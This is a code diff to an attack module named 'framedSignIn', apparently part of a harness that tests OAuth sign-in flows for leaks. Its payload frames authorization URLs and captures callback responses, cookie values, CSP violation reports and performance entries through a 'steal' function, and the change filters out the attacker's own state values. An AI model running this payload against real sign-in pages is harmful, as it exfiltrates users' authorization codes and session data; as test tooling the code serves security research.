@@ -207,9 +207,13 @@ export const framedSignIn = attack({
   async payload(it) {
     const app = encodeURIComponent(new URL(it.appUrl).origin);
     const evil = encodeURIComponent(it.attackerUrl);
-    let flows = 0;
+    const states: string[] = [];
     // Any hash looks like a state of the vault. Each flow has its own, because all frames share the tab's storage.
-    const state = () => String.fromCharCode(65 + flows++) + it.codeChallenge.slice(1);
+    const state = () => {
+      const own = String.fromCharCode(65 + states.length) + it.codeChallenge.slice(1);
+      states.push(own);
+      return own;
+    };
     const urls = () => [
       it.authorizationUrl(),
       it.authorizationUrl({ response_mode: "fragment" }),
@@ -235,8 +239,10 @@ export const framedSignIn = attack({
       // The value of the callback's cookie.
       if (data?.response) it.steal(atob(data.response.replaceAll("-", "+").replaceAll("_", "/")));
     });
+    // What the attacker has made is no loot.
+    const withoutOwn = (url: string) => states.reduce((rest, own) => rest.replaceAll(own, ""), url);
     addEventListener("securitypolicyviolation", ({ blockedURI, sourceFile }) =>
-      it.steal(blockedURI, sourceFile),
+      it.steal(withoutOwn(blockedURI), sourceFile),
     );
     for (let time = 0; time < 40; time++) {
       for (const { contentWindow } of frames) {
@@ -248,7 +254,7 @@ export const framedSignIn = attack({
       }
       await it.pause(50);
     }
-    it.steal(performance.getEntries());
+    it.steal(performance.getEntries().map(({ name }) => withoutOwn(name)));
   },
 });
 
